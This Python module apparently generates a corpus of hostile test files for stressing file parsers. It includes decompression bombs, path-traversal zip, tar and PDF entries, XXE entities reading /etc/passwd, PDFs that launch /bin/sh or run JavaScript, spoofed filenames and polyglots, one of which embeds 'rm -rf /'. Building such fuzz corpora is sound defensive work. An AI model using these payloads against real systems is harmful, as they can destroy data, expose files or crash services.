"""More files made to hurt whoever looks into them, by kind, as (name, bytes)."""

import base64
import gzip
import io
import json
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator

import pikepdf
from PIL import Image

Case = tuple[str, bytes]
DIGITS = b"9" * 200_000
ODT = ("mimetype", b"application/vnd.oasis.opendocument.text")
EXTERNAL = b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'


def cases() -> Iterator[Case]:
    """All of them."""
    yield from _pictures()
    yield from _packed()
    yield from _papers()
    yield from _office()
    yield from _letters()
    yield from _texts()
    yield from _sounds()
    yield from _two_at_once()


def _picture(form: str, **how: object) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (24, 24), "teal").save(out, form, **how)
    return out.getvalue()


def _pictures() -> Iterator[Case]:
    jpeg, gif, webp = (_picture(form) for form in ("JPEG", "GIF", "WEBP"))
    yield "claims.gif", gif[:6] + struct.pack("<HH", 65535, 65535) + gif[10:]
    frames = [Image.new("P", (1, 1), number % 250) for number in range(3000)]
    out = io.BytesIO()
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:])
    yield "frames.gif", out.getvalue()
    yield "claims.bmp", b"BM" + struct.pack("<IIIIiiHHIIiiII", 10**9, 0, 54, 40, 2**31 - 1,
                                            2**31 - 1, 1, 24, 0, 0, 0, 0, 0, 0)  # fmt: skip
    yield "upside-down.bmp", b"BM" + struct.pack("<IIIIiiHHIIiiII", 54, 0, 54, 40, -5, -(2**31),
                                                 1, 24, 0, 0, 0, 0, 0, 0)  # fmt: skip
    yield "claims.webp", webp[:4] + b"\xff\xff\xff\x7f" + webp[8:]
    yield "claims.ico", b"\0\0\1\0\xff\xff" + b"\0" * 16 * 300
    yield "claims.psd", b"8BPS\0\1" + bytes(6) + struct.pack(">HIIHH", 56, 300_000, 300_000, 32, 3)
    yield "claims.tga", bytes([0, 0, 2, *bytes(9), 255, 255, 255, 255, 32, 0])
    yield "claims.ppm", b"P6 999999999 999999999 255\n"
    yield "digits.ppm", b"P6 " + DIGITS + b" 1 255\n"
    yield (
        "claims.tif",
        b"II*\0\x08\0\0\0\xff\xff" + b"\0\1\4\0\xff\xff\xff\xff\xff\xff\xff\xff" * 99,
    )
    loop = b"II*\0\x08\0\0\0" + struct.pack("<HHHII", 1, 0x8769, 4, 1, 8) + struct.pack("<I", 8)
    yield "exif-loop.tif", loop
    exif = b"Exif\0\0" + loop
    yield (
        "exif-loop.jpg",
        jpeg[:2] + b"\xff\xe1" + struct.pack(">H", len(exif) + 2) + exif + jpeg[2:],
    )
    for number in range(3):  # an ICC profile, XMP and comments that never end
        mark = (b"\xff\xe2", b"\xff\xe1", b"\xff\xfe")[number]
        body = (b"ICC_PROFILE\0\1\xff", b"http://ns.adobe.com/xap/1.0/\0", b"")[number]
        part = mark + b"\xff\xff" + (body + bytes(65533))[:65533]
        yield f"segments-{number}.jpg", jpeg[:2] + part * 900 + jpeg[2:]
    xmp = EXTERNAL + b"<x:xmpmeta xmlns:x='adobe:ns:meta/'>&x;</x:xmpmeta>"
    body = b"http://ns.adobe.com/xap/1.0/\0" + xmp
    yield "xmp.jpg", jpeg[:2] + b"\xff\xe1" + struct.pack(">H", len(body) + 2) + body + jpeg[2:]
    yield "scan.jpg", jpeg[:-2] * 400
    png = _picture("PNG")
    profile = b"p\0\0" + zlib.compress(bytes(80 << 20), 9)
    chunk = struct.pack(">I", len(profile)) + b"iCCP" + profile
    yield (
        "profile.png",
        png[:33] + chunk + struct.pack(">I", zlib.crc32(b"iCCP" + profile)) + png[33:],
    )
    yield "length.png", png[:33] + b"\xff\xff\xff\xfftEXt" + png[33:]
    yield (
        "sizes.heic",
        b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0\0\0\1meta" + b"\xff" * 8 + bytes(64),
    )
    yield "nested.heic", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0\0\0\x08moov" * 100_000


def _zip(*parts: tuple[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts:
            archive.writestr(name, data)
    return out.getvalue()


def _packed() -> Iterator[Case]:
    yield "out.zip", _zip(("../../../../tmp/evil", b"x"), ("/etc/evil", b"x"), ("C:\\evil", b"x"))
    yield "names.zip", _zip(("\u202egpj.exe", b"x"), ("a\nb", b"x"), ("x" * 60_000, b"x"))
    inner = b"x" * (10 << 20)
    for _ in range(8):
        inner = _zip(("a.zip", inner), ("b.zip", inner))
    yield "russian-doll.zip", inner
    data = bytearray(_zip(("a", b"x" * 1000)))
    place = data.index(b"PK\x01\x02")
    data[place + 24 : place + 28] = b"\xff\xff\xff\xff"
    yield "lying.zip", bytes(data)
    many = _zip(*((f"{number}", b"") for number in range(60_000)))
    yield "many.zip", many
    yield "end.zip", many[-22:] * 2000
    yield "bomb.gz", gzip.compress(bytes(300 << 20))
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as archive:
        for name, sort in (("../evil", tarfile.REGTYPE), ("link", tarfile.SYMTYPE)):
            info = tarfile.TarInfo(name)
            info.type, info.linkname = sort, "/etc/passwd"
            archive.addfile(info)
    yield "links.tar.gz", out.getvalue()


def _pdf(body: bytes) -> bytes:
    return b"%PDF-1.7\n" + body + b"\ntrailer<</Root 1 0 R>>\n%%EOF"


def _papers() -> Iterator[Case]:
    page = b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R"
    start = b"1 0 obj<</Type/Catalog/Pages 2 0 R"
    box = b"/MediaBox[0 0 99 99]>>endobj"
    yield "script.pdf", _pdf(
        start + b"/OpenAction<</S/JavaScript/JS(app.launchURL('http://example.invalid'))>>>>endobj\n"
        + page + box
    )  # fmt: skip
    yield "launch.pdf", _pdf(start + b"/OpenAction<</S/Launch/F(/bin/sh)>>>>endobj\n" + page + box)
    yield (
        "digits.pdf",
        _pdf(start + b">>endobj\n" + page + b"/MediaBox[0 0 " + DIGITS + b" 1]>>endobj"),
    )
    yield "deep.pdf", _pdf(start + b"/A" + b"[" * 200_000 + b">>endobj\n" + page + box)
    yield "names.pdf", _pdf(start + b"/A" + b"#41" * 500_000 + b" 1>>endobj\n" + page + box)
    yield (
        "count.pdf",
        _pdf(start + b">>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 2147483647>>endobj"),
    )
    objects = b"".join(b"%d 0 obj<<>>endobj\n" % number for number in range(4, 200_000))
    yield "objects.pdf", _pdf(start + b">>endobj\n" + page + box + objects)
    form = (
        b"4 0 obj<</Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F 4 0 R>>>>/Length 5>>"
        b"stream\n/F Do\nendstream endobj"
    )
    yield "form-loop.pdf", _pdf(
        start + b">>endobj\n" + page + b"/Resources<</XObject<</F 4 0 R>>>>/Contents 5 0 R" + box
        + form
        + b"5 0 obj<</Length 5>>stream\n/F Do\nendstream endobj"
    )  # fmt: skip
    for word in ("", "secret"):
        out = io.BytesIO()
        with pikepdf.new() as document:
            document.add_blank_page()
            document.save(out, encryption=pikepdf.Encryption(user=word, owner="x", R=6))
        yield f"locked-{word or 'nothing'}.pdf", out.getvalue()
    out = io.BytesIO()
    with pikepdf.new() as document:
        for _ in range(3000):
            document.add_blank_page(page_size=(3, 3))
        document.attachments["../../evil"] = b"x" * 1000
        document.docinfo["/Title"] = "x" * 3_000_000
        document.save(out)
    yield "title.pdf", out.getvalue()


def _office() -> Iterator[Case]:
    types = b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
    for name, part in (("external.docx", "word/document.xml"), ("external.xlsx", "xl/workbook.xml"),
                       ("external.odt", "content.xml")):  # fmt: skip
        body = (part, b'<?xml version="1.0"?>' + EXTERNAL + b"<a>&x;</a>")
        first = ODT if part == "content.xml" else ("[Content_Types].xml", types)
        yield name, _zip(first, body)
    deep = b"<a>" * 300_000
    yield "deep.docx", _zip(("[Content_Types].xml", types), ("word/document.xml", deep))
    yield (
        "deep.odt",
        _zip(("mimetype", b"application/vnd.oasis.opendocument.text"), ("content.xml", deep)),
    )
    cells = b"".join(b'<c r="ZZZZZZ%d"><v>%s</v></c>' % (n, b"9" * 5000) for n in range(200))
    yield "digits.xlsx", _zip(
        ("[Content_Types].xml", types), ("xl/workbook.xml", b"<workbook/>"),
        ("xl/worksheets/sheet1.xml", b"<worksheet><sheetData><row>" + cells),
    )  # fmt: skip
    yield "ole.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 4096


def _letters() -> Iterator[Case]:
    head = b"From: a\nTo: b\nSubject: c\n"
    yield (
        "names.eml",
        head
        + (
            b"Content-Type: multipart/mixed; boundary=q\n\n"
            + b"".join(
                b"--q\nContent-Disposition: attachment; filename*=utf-8''" + name + b"\n\nx\n"
                for name in (
                    b"..%2F..%2Fevil",
                    b"%00",
                    b"%E2%80%AEgpj.exe",
                    b"a" * 20_000,
                    b"CON",
                    b".",
                )
            )
        ),
    )
    yield "header.eml", head + b"X: " + b"y" * (5 << 20) + b"\n\nz"
    yield "headers.eml", head + b"X: y\n" * 300_000 + b"\nz"
    yield "words.eml", b"From: a\nSubject: " + b"=?utf-8?b?4Li4?= " * 60_000 + b"\n\nz"
    yield "groups.eml", head + b"Cc: " + b"a:" * 50_000 + b"\n\nz"
    yield "comment.eml", head + b"Date: " + b"(" * 200_000 + b"\n\nz"
    packed = base64.b64encode(zlib.compress(bytes(50 << 20)))
    yield "base64.eml", head + b"Content-Transfer-Encoding: base64\n\n" + packed
    yield "charset.eml", head + b"Content-Type: text/plain; charset=" + b"x" * 90_000 + b"\n\nz"
    yield "parameter.eml", head + b'Content-Type: text/plain; a*0*="' + b"%" * 200_000 + b"\n\nz"


def _texts() -> Iterator[Case]:
    yield "digits.json", b'{"a": ' + DIGITS + b"}"
    yield "digits.csv", b"a,b\n" + DIGITS + b",1\n"
    yield "twins.json", b"{" + b'"a":1,' * 300_000 + b'"a":1}'
    yield "nul.txt", b"a\0b" * 500_000
    yield "bidi.txt", "\u202e\u2066\u200b\ufeff".encode() * 200_000
    yield "marks.txt", ("a" + "\u0301" * 2_000_000).encode()
    yield "quote.csv", b'a,b\n"' + b"x\n" * 2_000_000
    yield "columns.csv", b"," * 5_000_000
    yield "entities.html", b"<p>" + b"&#x10FFFF;" * 400_000
    yield "script.html", b"<script>" + b"fetch('http://example.invalid');" * 100_000
    yield "attributes.html", b"<a " + b"".join(b"a%d=1 " % n for n in range(200_000)) + b">"
    yield "chat.txt", b"[1/1/25, 1:11:11] " + b"x" * 300_000 + b": y\n" * 3
    yield "utf7.txt", b"+" + b"ADw-" * 300_000
    messages = [{"id": n, "type": "message", "text": [["x"] * 5]} for n in range(50_000)]
    yield "result.json", json.dumps({"messages": messages, "name": "x", "type": "x"}).encode()


def _sounds() -> Iterator[Case]:
    yield "tag.mp3", b"ID3\4\0\0\x7f\x7f\x7f\x7f" + b"TIT2\x7f\x7f\x7f\x7f\0\0\3" + b"x" * 100_000
    picture = b"fLaC\x86\xff\xff\xff" + b"\0" * 4000
    yield "picture.flac", picture
    yield "pages.ogg", (b"OggS\0\2" + bytes(20) + b"\xff" + b"\xff" * 255) * 2000
    yield "boxes.mp4", b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom" + b"\0\0\0\x08moov" * 200_000
    yield "size.mkv", b"\x1a\x45\xdf\xa3\x01" + b"\xff" * 7 + bytes(2000)
    yield "chunk.avi", b"RIFF\xff\xff\xff\xffAVI LIST\xff\xff\xff\xffhdrl" + bytes(2000)
    yield (
        "rate.wav",
        b"RIFF\x24\0\0\0WAVEfmt \x10\0\0\0\1\0\0\0\0\0\0\0\0\0\0\0\0\0data\xff\xff\xff\xff",
    )


def _two_at_once() -> Iterator[Case]:
    jpeg, gif = _picture("JPEG"), _picture("GIF")
    pdf, archive = _pdf(b"1 0 obj<</Type/Catalog>>endobj"), _zip(("a.txt", b"x"))
    page = b"<html><script>alert(1)</script></html>"
    yield from (
        ("pdf-and.zip", pdf + archive),
        ("picture-and.zip", jpeg + archive),
        ("picture-and.html", gif + page),
        ("page-and.pdf", page + pdf),
        ("program.jpg", b"MZ" + bytes(58) + b"\x40\0\0\0" + jpeg),
        ("elf.png", b"\x7fELF\2\1\1" + gif),
        ("script.jpg", b"#!/bin/sh\nrm -rf /\n" + jpeg),
        ("mail-and.zip", b"From: a\n\n" + archive),
        ("jar.pdf", archive + pdf),
        ("nothing.pdf", b""),
        ("one.png", b"\x89"),
    )
